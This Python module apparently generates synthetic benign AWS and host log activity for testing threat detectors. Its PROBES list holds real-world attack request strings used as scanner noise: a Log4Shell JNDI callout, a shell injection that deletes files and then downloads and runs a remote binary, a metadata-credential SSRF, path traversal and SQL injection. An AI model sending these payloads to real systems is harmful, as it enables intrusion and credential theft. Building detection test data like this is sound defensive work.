"""Innocent work, the noisy kind included: what must never be accused."""
from world import BROWSERS, CLIS, CLOUD, DAY, HOMES, HOUR, OFFICES, RUNNERS, Person, Role, Session, rfc3339

TERRAFORM = 'APN/1.0 HashiCorp/1.0 Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.43.0 ' \
            '(+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.26.0 os/linux lang/go#1.21.8'
CONSOLE_READS = [('ec2', 'DescribeInstances'), ('ec2', 'DescribeVpcs'), ('ec2', 'DescribeSecurityGroups'),
                 ('cloudwatch', 'DescribeAlarms'), ('s3', 'ListBuckets'), ('iam', 'ListRoles'), ('iam', 'GetAccountSummary'),
                 ('lambda', 'ListFunctions20150331'), ('rds', 'DescribeDBInstances'), ('health', 'DescribeEventAggregates'),
                 ('ce', 'GetCostAndUsage'), ('notifications', 'ListNotificationHubs'), ('ec2', 'DescribeRegions'),
                 ('resource-explorer-2', 'ListIndexes'), ('iam', 'ListAccountAliases'), ('kms', 'ListAliases'),
                 ('logs', 'DescribeLogGroups'), ('dynamodb', 'ListTables'), ('sns', 'ListTopics'), ('budgets', 'DescribeBudgets')]
WORK = [('ec2', 'DescribeInstances'), ('s3', 'ListBuckets'), ('logs', 'FilterLogEvents'), ('ecs', 'DescribeServices'),
        ('ecs', 'ListTasks'), ('lambda', 'GetFunction20150331v2'), ('dynamodb', 'DescribeTable'), ('ecr', 'DescribeImages'),
        ('cloudformation', 'DescribeStacks'), ('sts', 'GetCallerIdentity'), ('rds', 'DescribeDBInstances'),
        ('cloudwatch', 'GetMetricData'), ('ssm', 'GetParameter'), ('secretsmanager', 'GetSecretValue')]


def console_day(w, p, day, ip=None, mfa=None, typo=0, t=None):
    """A person signs in and clicks around; the console makes the calls, some refused."""
    r = w.rng
    t = t or w.work_time(day)
    ip, mfa = ip or p.place, p.mfa if mfa is None else mfa
    for i in range(typo):
        w.login(t - 30 * (typo - i), p, ip, p.browser, ok=False, mfa=mfa)
    w.login(t, p, ip, p.browser, mfa=mfa)
    s = Session(w, t, person=p, mfa=mfa, console=True)
    refused = r.random() < .3
    for _ in range(r.randrange(1, 5)):
        t += r.randrange(20, 1500)
        for service, name in r.sample(CONSOLE_READS, r.randrange(4, 14)):
            inside = r.random() < .2
            w.call(t + r.randrange(0, 8), s, 'AWS Internal' if inside else ip,
                   'AWS Internal' if inside else r.choice([p.browser, p.browser, 'console.amazonaws.com']), service, name,
                   err=refused and r.random() < .4 or None, top={'sessionCredentialFromConsole': 'true'})
    return s


def cli_day(w, p, day, ip=None, n=None):
    r = w.rng
    t = w.work_time(day)
    for _ in range(n or r.randrange(5, 40)):
        t += r.randrange(1, 900)
        service, name = r.choice(WORK)
        w.call(t, p, ip or p.place, p.agent, service, name, {'secretId': 'app/config'} if name == 'GetSecretValue' else None,
               err=r.random() < .03 or None)


def people(w):
    for p in w.people:
        for day in range(w.days):
            if w.rng.random() < .7:
                console_day(w, p, day, typo=w.rng.choice([0, 0, 0, 1, 2]))
            if w.rng.random() < .6:
                cli_day(w, p, day)


def machines(w, often=1800):
    """Agents and an application on every instance; some calls go through a gateway endpoint or over IPv6."""
    r = w.rng
    for m in w.machines:
        w.boot(m)
        m.endpoint = 'vpce-' + w.hex(17) if r.random() < .4 else None
        m.six = w.address(['2a05:d018::/36']) if r.random() < .25 else None
        m.bucket = r.choice(w.buckets)
        ssm = 'aws-sdk-go/1.44.260 (go1.20.10; linux; amd64) amazon-ssm-agent/3.2.2303.0'
        t = w.start + r.randrange(0, often)
        while t < w.end:
            s = m.session(t)
            w.call(t, s, m.public, ssm, 'ssm', 'UpdateInstanceInformation',
                   {'instanceId': m.id, 'agentName': 'amazon-ssm-agent', 'agentStatus': 'Active', 'iPAddress': m.private})
            if r.random() < .8:
                if m.endpoint:
                    w.read_object(t + 20, s, m.private, m.agent, m.bucket, f'in/{w.hex(8)}.json', r.randrange(900, 90000),
                                  top={'vpcEndpointId': m.endpoint})
                else:
                    w.read_object(t + 20, s, m.public, m.agent, m.bucket, f'in/{w.hex(8)}.json', r.randrange(900, 90000))
            if m.six and r.random() < .5:
                w.call(t + 40, s, m.six, m.agent, 'sqs', 'GetQueueUrl', {'queueName': 'jobs'})
            t += r.randrange(often // 2, often + often // 2)


def terraform(w):
    """A pipeline that makes users, keys, roles, policies; every run from another runner."""
    r = w.rng
    p = Person(w, r.choice(['terraform', 'tf-deploy', 'infra-ci']), False)
    w.people.append(p)
    fixed = w.address(OFFICES) if r.random() < .4 else None
    for day in range(w.days):
        t = w.work_time(day)
        ip = fixed or w.v4(RUNNERS)
        w.call(t, p, ip, TERRAFORM, 'sts', 'GetCallerIdentity')
        for i in range(r.randrange(20, 60)):
            service, name = r.choice(CONSOLE_READS)
            w.call(t + 1 + i // 6, p, ip, TERRAFORM, service, name, err=r.random() < .05 or None)
        t += 30
        made = w.a_name()
        key = w.new_key('AKIA')
        w.call(t, p, ip, TERRAFORM, 'iam', 'CreateRole', {'roleName': f'svc-{w.hex(4)}', 'assumeRolePolicyDocument': '{}'}, {})
        w.call(t + 1, p, ip, TERRAFORM, 'iam', 'CreateUser', {'userName': made, 'tags': []}, {'user': {'userName': made}})
        w.call(t + 2, p, ip, TERRAFORM, 'iam', 'CreateAccessKey', {'userName': made},
               {'accessKey': {'accessKeyId': key, 'status': 'Active', 'userName': made}})
        w.call(t + 3, p, ip, TERRAFORM, 'iam', 'AttachUserPolicy',
               {'userName': made, 'policyArn': r.choice(['arn:aws:iam::aws:policy/AdministratorAccess', f'arn:aws:iam::{w.account}:policy/app'])})
        w.call(t + 4, p, ip, TERRAFORM, 's3', 'PutBucketPolicy',
               {'bucketName': r.choice(w.buckets), 'bucketPolicy': {'Statement': [{'Effect': 'Allow', 'Principal': {'AWS': f'arn:aws:iam::{w.account}:root'}, 'Action': 's3:*'}]}})
        w.call(t + 5, p, ip, TERRAFORM, 'ec2', 'AuthorizeSecurityGroupIngress',
               {'groupId': 'sg-' + w.hex(8), 'ipPermissions': {'items': [{'ipProtocol': 'tcp', 'fromPort': 443, 'toPort': 443, 'ipRanges': {'items': [{'cidrIp': '0.0.0.0/0'}]}}]}})
        w.call(t + 6, p, ip, TERRAFORM, 'ec2', 'RunInstances', {'instanceType': 't3.medium', 'maxCount': 1}, {})
        if r.random() < .3:
            w.call(t + 8, p, ip, TERRAFORM, 'ec2', 'TerminateInstances', {'instancesSet': {'items': [{'instanceId': 'i-' + w.hex(17)}]}}, {})


def runners(w):
    """CI with a long-term key, and CI by web identity: another address each time."""
    r = w.rng
    p = Person(w, r.choice(['ci', 'github-actions', 'deploy-bot', 'gitlab']), False)
    agent = r.choice(CLIS[1:2] + ('aws-sdk-js/2.1501.0 linux/v20.11.1 configure-aws-credentials-for-github-actions promise',))
    role = Role(w, 'gha-deploy')
    for day in range(w.days):
        for _ in range(r.randrange(1, 6)):
            t, ip = w.work_time(day), w.v4(RUNNERS)
            if r.random() < .5:
                who = p
                w.call(t, who, ip, agent, 'sts', 'GetCallerIdentity')
            else:
                s = Session(w, t, role, 'GitHubActions')
                w.call(t, {'type': 'WebIdentityUser', 'principalId': f'arn:aws:iam::{w.account}:oidc-provider/token.actions.githubusercontent.com:sts.amazonaws.com:repo:acme/shop:ref:refs/heads/main',
                           'userName': 'repo:acme/shop:ref:refs/heads/main', 'identityProvider': f'arn:aws:iam::{w.account}:oidc-provider/token.actions.githubusercontent.com'},
                       ip, agent, 'sts', 'AssumeRoleWithWebIdentity', {'roleArn': role.arn, 'roleSessionName': 'GitHubActions', 'durationSeconds': 3600},
                       {'credentials': {'accessKeyId': s.key, 'sessionToken': 'x', 'expiration': rfc3339(t + HOUR)},
                        'assumedRoleUser': {'assumedRoleId': role.id + ':GitHubActions', 'arn': s.arn}})
                who = s
            for service, name in (('ecr', 'GetAuthorizationToken'), ('ecr', 'BatchCheckLayerAvailability'), ('ecr', 'PutImage'),
                                  ('ecs', 'DescribeTaskDefinition'), ('ecs', 'RegisterTaskDefinition'), ('ecs', 'UpdateService'),
                                  ('lambda', 'UpdateFunctionCode20150331v2'), ('cloudfront', 'CreateInvalidation')):
                t += r.randrange(1, 30)
                w.call(t, who, ip, agent, service, name, {'functionName': 'api'} if service == 'lambda' else None)


def saas(w):
    """A vendor's posture scanner through a cross-account role: many reads in a minute, some refused."""
    r = w.rng
    role, vendor = Role(w, r.choice(['DatadogIntegrationRole', 'WizAccess-Role', 'cspm-audit'])), '464622532012'
    ip = w.v4(CLOUD)
    agent = r.choice(['Boto3/1.26.0 Python/3.10.4 Linux/5.15.0 Botocore/1.29.0', 'aws-sdk-go-v2/1.21.0 os/linux lang/go#1.21'])
    for day in range(w.days):
        t = w.start + day * DAY + r.randrange(0, DAY - 3600)
        who = {'type': 'AWSAccount', 'principalId': f'AROA{w.letters(17)}:scanner', 'accountId': vendor}
        s = Session(w, t, role, 'scanner-' + w.hex(6))
        w.call(t, who, ip, agent, 'sts', 'AssumeRole', {'roleArn': role.arn, 'roleSessionName': s.name, 'externalId': 'ext-9f2'},
               {'credentials': {'accessKeyId': s.key, 'sessionToken': 'x', 'expiration': rfc3339(t + HOUR)},
                'assumedRoleUser': {'assumedRoleId': f'{role.id}:{s.name}', 'arn': s.arn}},
               top={'recipientAccountId': w.account, 'sharedEventID': w.uuid()})
        for i in range(r.randrange(60, 200)):
            service, name = r.choice(CONSOLE_READS)
            w.call(t + 1 + i // 4, s, ip, agent, service, name, err=r.random() < .1 or None)


def auditor(w):
    """Prowler or ScoutSuite, run from the office by the people whose job it is."""
    r = w.rng
    p = r.choice(w.staff)
    agent = r.choice(['Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.5 lang/python#3.11 prowler/3.16.0', 'ScoutSuite/5.14.0',
                      'aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 source/arm64 prompt/off command/{}'])
    t = w.work_time(r.randrange(w.days))
    for i in range(r.randrange(80, 250)):
        service, name = r.choice(CONSOLE_READS)
        w.call(t + i // 5, p, p.place, agent, service, name, err=r.random() < .08 or None)


def services(w):
    """AWS at work: role sessions of services, log delivery that is refused, events without an identity."""
    r = w.rng
    for day in range(w.days):
        for _ in range(r.randrange(3, 12)):
            t = w.start + day * DAY + r.randrange(0, DAY)
            svc = r.choice(['config', 'autoscaling', 'guardduty', 'trustedadvisor', 'elasticloadbalancing'])
            role = Role(w, 'AWSServiceRoleFor' + svc.title(), path=f'aws-service-role/{svc}.amazonaws.com/')
            s = w.assume(t, {'type': 'AWSService', 'invokedBy': svc + '.amazonaws.com'}, svc + '.amazonaws.com', svc + '.amazonaws.com', role, svc)
            who = s.who()
            who['invokedBy'] = svc + '.amazonaws.com'
            for i in range(r.randrange(2, 15)):
                service, name = r.choice(CONSOLE_READS)
                w.call(t + i, who, svc + '.amazonaws.com', svc + '.amazonaws.com', service, name)
        t = w.start + day * DAY + r.randrange(0, DAY - 600)
        for i in range(r.randrange(5, 60)):
            w.call(t + i, {'type': 'AWSService', 'invokedBy': 'delivery.logs.amazonaws.com'}, 'delivery.logs.amazonaws.com',
                   'delivery.logs.amazonaws.com', 's3', 'PutObject', {'bucketName': w.buckets[0], 'key': f'AWSLogs/{w.hex(8)}'},
                   err='AccessDenied', data=True)
        w.call(t, {'accountId': w.account, 'invokedBy': 'AWS Internal'}, 'AWS Internal', 'AWS Internal', 'kms', 'RotateKey', None, None)


def lambdas(w):
    """Functions outside a VPC: one session name, many addresses."""
    r = w.rng
    role = Role(w, 'thumbnailer-' + w.hex(4))
    role.function = 'thumbnailer'
    for day in range(w.days):
        for _ in range(r.randrange(2, 8)):
            t = w.start + day * DAY + r.randrange(0, DAY - 7200)
            s = w.assume(t, {'type': 'AWSService', 'invokedBy': 'lambda.amazonaws.com'}, 'lambda.amazonaws.com',
                         'lambda.amazonaws.com', role, 'thumbnailer')
            ip = w.v4(CLOUD)
            agent = 'Boto3/1.34.42 md/Botocore#1.34.42 ua/2.0 os/linux#5.10.210 lang/python#3.12 exec-env/AWS_Lambda_python3.12'
            for i in range(r.randrange(2, 30)):
                w.read_object(t + i * 9, s, ip, agent, w.buckets[1], f'u/{w.hex(6)}.png', 30000)
    return role


def root_owner(w):
    r = w.rng
    t, ip = w.work_time(r.randrange(w.days)), w.office
    who = {'type': 'Root', 'principalId': w.account, 'arn': f'arn:aws:iam::{w.account}:root', 'accountId': w.account, 'accessKeyId': ''}
    w.call(t, who, ip, BROWSERS[0], 'signin', 'ConsoleLogin', None, {'ConsoleLogin': 'Success'}, region='us-east-1',
           extra={'LoginTo': 'https://console.aws.amazon.com/billing', 'MobileVersion': 'No', 'MFAUsed': 'Yes'}, top={'eventType': 'AwsConsoleSignIn'})
    who = dict(who, accessKeyId=w.new_key('ASIA'), sessionContext={'attributes': {'creationDate': rfc3339(t), 'mfaAuthenticated': 'true'}})
    for i, (service, name) in enumerate([('iam', 'GetAccountSummary'), ('iam', 'ListMFADevices'), ('ce', 'GetCostAndUsage'), ('account', 'GetContactInformation'),
                                         ('iam', 'ListAccessKeys'), ('budgets', 'DescribeBudgets'), ('account', 'PutAlternateContact')]):
        w.call(t + 4 * i + 3, who, ip, BROWSERS[0], service, name, top={'sessionCredentialFromConsole': 'true'})


def new_hire(w):
    """An administrator makes a user; who then signs in without MFA, changes the password, adds MFA, makes a key."""
    r = w.rng
    boss, hire = r.choice(w.staff), Person(w, w.a_name())
    hire.place = r.choice([w.office, w.address(HOMES)])
    day = r.randrange(w.days)
    s = console_day(w, boss, day, mfa=True)
    t = s.t + 600
    for i, (name, req) in enumerate([('CreateUser', {'userName': hire.name}), ('CreateLoginProfile', {'userName': hire.name, 'passwordResetRequired': True}),
                                     ('AddUserToGroup', {'userName': hire.name, 'groupName': 'developers'})]):
        w.call(t + i * 5, s, boss.place, boss.browser, 'iam', name, req, {}, top={'sessionCredentialFromConsole': 'true'})
    t += r.randrange(1800, 4 * HOUR)
    w.login(t, hire, hire.place, hire.browser, mfa=False)
    s = Session(w, t, person=hire, console=True)
    for i, (name, req) in enumerate([('ChangePassword', None), ('CreateVirtualMFADevice', {'virtualMFADeviceName': hire.name}),
                                     ('EnableMFADevice', {'userName': hire.name}), ('CreateAccessKey', {'userName': hire.name})]):
        w.call(t + 60 + i * 40, s, hire.place, hire.browser, 'iam', name, req,
               {'accessKey': {'accessKeyId': hire.key, 'status': 'Active', 'userName': hire.name}} if name == 'CreateAccessKey' else {},
               top={'sessionCredentialFromConsole': 'true'})
    for i in range(r.randrange(4, 20)):
        service, name = r.choice(WORK)
        w.call(t + 400 + i * 50, hire, hire.place, hire.agent, service, name, err=r.random() < .2 or None)


def rotation(w):
    """A person rotates their own key and uses the new one at once from the same place."""
    r = w.rng
    p = r.choice(w.staff)
    t, new = w.work_time(r.randrange(w.days)), w.new_key('AKIA')
    w.call(t, p, p.place, p.agent, 'iam', 'CreateAccessKey', {'userName': p.name}, {'accessKey': {'accessKeyId': new, 'status': 'Active', 'userName': p.name}})
    for i, (service, name) in enumerate([('sts', 'GetCallerIdentity'), ('s3', 'ListBuckets'), ('ec2', 'DescribeInstances')]):
        w.call(t + 60 + i * 5, p.who(new), p.place, p.agent, service, name)
    w.call(t + 120, p.who(new), p.place, p.agent, 'iam', 'UpdateAccessKey', {'userName': p.name, 'accessKeyId': p.key, 'status': 'Inactive'})
    w.call(t + 140, p.who(new), p.place, p.agent, 'iam', 'DeleteAccessKey', {'userName': p.name, 'accessKeyId': p.key})


def vpn(w):
    """A laptop that travels: office, home, a VPN's exit, a hotel; console and key at each."""
    r = w.rng
    p = r.choice(w.staff)
    for day in range(w.days):
        for _ in range(r.randrange(1, 3)):
            ip = r.choice([w.address(HOMES), w.address(OFFICES), p.place])
            cli_day(w, p, day, ip)
            if r.random() < .5:
                console_day(w, p, day, ip, mfa=True)


def nat_change(w):
    """An instance's way out gets another address, once and for all."""
    m = w.rng.choice(w.machines)
    t0, new = w.start + w.days * DAY // 2, w.address(CLOUD)
    old = m.public
    for t, e in w.events:
        if t >= t0 and e['sourceIPAddress'] == old:
            e['sourceIPAddress'] = new
    m.public = new


def backup(w):
    """A job that reads everything, every night."""
    r = w.rng
    p = Person(w, r.choice(['backup', 'veeam', 'rclone-sync']), False)
    ip = w.address(OFFICES + CLOUD)
    for day in range(w.days):
        t = w.start + day * DAY + 2 * HOUR
        for i in range(r.randrange(60, 220)):
            w.read_object(t + i * 3, p, ip, r.choice(['rclone/v1.66.0', 'rclone/v1.66.0']), w.buckets[2], f'{w.hex(2)}/{w.hex(8)}.parquet', r.randrange(10 ** 4, 10 ** 8))


def break_glass(w):
    """An emergency account that nobody uses, used: from the office, with MFA, by somebody in a hurry."""
    r = w.rng
    p = Person(w, 'break-glass')
    s = console_day(w, p, r.randrange(w.days), mfa=True)
    t = s.t + 300
    for name, service, req in (('AttachRolePolicy', 'iam', {'roleName': 'ops', 'policyArn': 'arn:aws:iam::aws:policy/AdministratorAccess'}),
                               ('StopInstances', 'ec2', {'instancesSet': {'items': [{'instanceId': w.machines[0].id}]}}),
                               ('ModifyInstanceAttribute', 'ec2', {'instanceId': w.machines[0].id}), ('StartInstances', 'ec2', {'instancesSet': {'items': [{'instanceId': w.machines[0].id}]}})):
        t += r.randrange(20, 120)
        w.call(t, s, p.place, p.browser, service, name, req, {}, top={'sessionCredentialFromConsole': 'true'})


def new_region(w):
    r = w.rng
    p = r.choice(w.staff)
    t = w.work_time(r.randrange(w.days))
    for i in range(r.randrange(10, 40)):
        service, name = r.choice(WORK)
        w.call(t + i * 20, p, p.place, p.agent, service, name, region=r.choice(['ap-northeast-1', 'eu-north-1']))
    w.call(t + 900, p, p.place, p.agent, 'ec2', 'RunInstances', {'instanceType': 'm5.large', 'maxCount': 4}, {}, region='eu-north-1')


def sso(w):
    """Identity Center: a person's role session, from wherever they sit."""
    r = w.rng
    role = Role(w, f'AWSReservedSSO_PowerUser_{w.hex(16)}', path='aws-reserved/sso.amazonaws.com/eu-west-1/')
    for _ in range(2):
        name, ip = w.a_name() + '@example.com', r.choice([w.office, w.address(HOMES)])
        agent = r.choice(BROWSERS + CLIS)
        for day in range(w.days):
            t = w.work_time(day)
            s = Session(w, t, role, name)
            w.call(t, {'type': 'SAMLUser', 'principalId': w.hex(20) + ':' + name, 'userName': name, 'identityProvider': 'AWSSSO'}, 'AWS Internal' if r.random() < .5 else ip, agent,
                   'sts', 'AssumeRoleWithSAML', {'roleArn': role.arn, 'sAMLAssertionID': '_' + w.hex(8), 'roleSessionName': name},
                   {'credentials': {'accessKeyId': s.key, 'sessionToken': 'x', 'expiration': rfc3339(t + HOUR)}, 'assumedRoleUser': {'arn': s.arn, 'assumedRoleId': f'{role.id}:{name}'}})
            for i in range(r.randrange(5, 40)):
                service, act = r.choice(WORK + CONSOLE_READS)
                w.call(t + 5 + i * r.randrange(1, 60), s, ip, agent, service, act, err=r.random() < .06 or None)


def spray_noise(w):
    """The Internet tries console passwords and does not get in."""
    r = w.rng
    ip = w.address(['45.155.204.0/23'])
    t = w.start + r.randrange(0, w.days * DAY - HOUR)
    for i in range(r.randrange(3, 25)):
        w.login(t + i * 20, r.choice(w.people), ip, BROWSERS[2], ok=False, hidden=r.random() < .5)


PATHS = ['/', '/about', '/api/v1/items', '/static/app.js', '/login', '/products?id=17', '/search?q=shoes', '/img/logo.png', '/health']
PROBES = ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/', '/cgi-bin/luci', '/actuator/env', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
          '/?id=1%27%20UNION%20SELECT%201,2,3--', '/index.php?page=../../../../etc/passwd', '/?x=${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/x}',
          '/solr/admin/info/system', '/boaform/admin/formLogin', '/shell?cd+/tmp;rm+-rf+*;wget+http://45.14.225.7/jaws;sh+/tmp/jaws',
          '/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/', '/cgi-bin/.%2e/.%2e/.%2e/bin/sh', '/struts2-showcase/index.action']


def web_traffic(w, n=300, scan=True):
    r = w.rng
    sizes = {p: r.randrange(400, 30000) for p in PATHS}
    for _ in range(n):
        path = r.choice(PATHS)
        w.visit(w.start + r.randrange(0, w.days * DAY), w.v4(HOMES), 'GET', path, r.choice([200] * 9 + [304]), sizes[path], r.choice(BROWSERS))
    for day in range(w.days * 24):
        w.visit(w.start + day * HOUR, '10.0.0.12', 'GET', '/health', 200, 2, 'ELB-HealthChecker/2.0')
    w.catch_all = r.random() < .15
    for _ in range(r.randrange(1, 5) if scan else 0):
        ip, t = w.v4(['45.155.204.0/23', '193.106.191.0/24', '159.223.0.0/16']), w.start + r.randrange(0, w.days * DAY - HOUR)
        for i in range(r.randrange(10, 120)):
            path = r.choice(PROBES)
            status, size = (200, sizes['/']) if w.catch_all else (r.choice([404, 404, 404, 403, 400, 301]), r.choice([153, 162, 548]))
            if path.startswith('/?') and r.random() < .7:
                status, size = 200, sizes['/']
            w.visit(t + i // 2, ip, 'GET', path, status, size, r.choice(['zgrab/0.x', 'Mozilla/5.0 zgrab/0.x', 'python-requests/2.31.0', 'Nuclei - Open-source project']))


def ssh_noise(w, n=3):
    """Guessing from everywhere, never right; and the people who belong there."""
    r = w.rng
    admin = r.choice(w.staff).name.replace('.', '')
    for m in w.machines:
        pid = r.randrange(1000, 30000)
        for _ in range(n):
            ip, t = w.v4(['45.155.204.0/23', '91.240.118.0/24', '159.223.0.0/16', '51.158.0.0/17']), w.start + r.randrange(0, w.days * DAY - HOUR)
            for i in range(r.randrange(4, 80)):
                u = r.choice(['root', 'root', 'admin', 'ubuntu', 'oracle', 'test', 'git', 'postgres'])
                t += r.randrange(1, 9)
                known = u in ('root', 'ubuntu')
                if not known:
                    w.auth(t, m.host, f'sshd[{pid + i}]', f'Invalid user {u} from {ip} port {40000 + i}')
                w.auth(t + 1, m.host, f'sshd[{pid + i}]', f'Failed password for {"" if known else "invalid user "}{u} from {ip} port {40000 + i} ssh2')
                w.auth(t + 1, m.host, f'sshd[{pid + i}]', f'Connection closed by {"authenticating" if known else "invalid"} user {u} {ip} port {40000 + i} [preauth]')
            if r.random() < .5:
                w.flow(t - 60, ip, m.private, 40000, 22, 30, 3000, eni=m.eni)
                w.flow(t - 60, m.private, ip, 22, 40000, 24, 3900, eni=m.eni)
        for day in range(w.days):
            t, port = w.work_time(day), r.randrange(40000, 60000)
            if r.random() < .2:
                w.auth(t - 9, m.host, f'sshd[{pid}]', f'Failed password for {admin} from {w.office} port {port} ssh2')
            w.auth(t, m.host, f'sshd[{pid}]', f'Accepted publickey for {admin} from {w.office} port {port} ssh2: RSA SHA256:{w.letters(43)}')
            w.auth(t + 1, m.host, f'sshd[{pid}]', f'pam_unix(sshd:session): session opened for user {admin}(uid=1001) by (uid=0)')
            w.auth(t + 30, m.host, 'sudo', f'  {admin} : TTY=pts/0 ; PWD=/home/{admin} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx')


def flow_noise(w, n=400):
    r = w.rng
    for _ in range(n):
        m = r.choice(w.machines)
        t = w.start + r.randrange(0, w.days * DAY - 120)
        kind = r.randrange(5)
        if kind == 0:
            w.flow(t, w.v4(['45.155.204.0/23', '193.106.191.0/24']), m.private, r.randrange(1024, 65000), r.choice([23, 22, 3389, 445, 6379, 8080, 4444]), 1, 40, ok=False, eni=m.eni)
        elif kind == 1:
            w.both_ways(t, m.private, w.v4(CLOUD), r.randrange(32768, 60000), 443, 20, r.randrange(2000, 9000), r.randrange(5000, 90000), eni=m.eni)
        elif kind == 2:
            w.both_ways(t, m.private, '169.254.169.123', 123, 123, 1, 76, 76, proto=17, eni=m.eni)
        else:
            w.both_ways(t, w.v4(HOMES), m.private, r.randrange(32768, 60000), 443, 12, 1900, r.randrange(3000, 90000), eni=m.eni)


ALWAYS = (people, machines, services)
SOMETIMES = (terraform, runners, saas, auditor, lambdas, root_owner, new_hire, rotation, vpn, nat_change, backup,
             break_glass, new_region, sso, spray_noise)


def live(w, share=.35, hosts=True, last=()):
    """An ordinary few days: the usual, and a draw of the unusual; `last` is drawn from when the hosts have their logs."""
    for part in ALWAYS:
        part(w)
    for part in SOMETIMES:
        if w.rng.random() < share:
            part(w)
    if hosts and w.rng.random() < .6:
        web_traffic(w)
    if hosts and w.rng.random() < .6:
        ssh_noise(w)
    if hosts and w.rng.random() < .6:
        flow_noise(w)
    for part in last:
        if w.rng.random() < share:
            part(w)
